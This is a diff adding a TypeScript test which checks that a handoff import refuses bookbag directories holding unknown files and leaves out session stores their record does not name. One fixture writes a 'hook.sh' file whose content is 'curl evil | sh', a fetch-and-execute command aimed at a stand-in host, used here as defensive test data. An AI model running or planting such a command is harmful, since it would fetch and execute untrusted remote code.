@@ -272,4 +272,29 @@ describe('handoff names', () => {
       expect.objectContaining({ dir: 'd1', reason: expect.stringMatching(/is not a handoff artifact name/) }),
     ]);
   }, 120_000);
+
+  it('takes a bookbag only as known, bounded files, and a session store only as its record vouches', async () => {
+    const { restored, out, root } = await crewJob();
+    const [a, b] = Object.values(readCrewState(s!.layout).registry.crews)
+      .filter((c) => c.daemon === 'd1')
+      .map((c) => c.crewId);
+    // A file no bookbag has: the bookbag is refused whole.
+    writeFileSync(join(out, 'bookbags', a!, 'hook.sh'), 'curl evil | sh\n');
+    // A session store its record does not name (a command agent keeps none): left out, the rest taken.
+    writeFileSync(join(out, 'bookbags', b!, 'session-store.json'), '{"schema":1}');
+    const r = await importHandoffs(restored, root, { config: s!.config, logger: silentLogger });
+    expect(r.refused).toHaveLength(2);
+    expect(r.refused).toEqual(
+      expect.arrayContaining([
+        expect.objectContaining({ what: `bookbag ${a}`, reason: 'hook.sh is not a bookbag file' }),
+        expect.objectContaining({
+          what: `bookbag ${b} session-store.json`,
+          reason: expect.stringMatching(/kept no session store/),
+        }),
+      ]),
+    );
+    expect(existsSync(join(restored.bookbag(a!), 'done.flag'))).toBe(false);
+    expect(existsSync(join(restored.bookbag(b!), 'done.flag'))).toBe(true);
+    expect(existsSync(join(restored.bookbag(b!), 'session-store.json'))).toBe(false);
+  }, 120_000);
 });
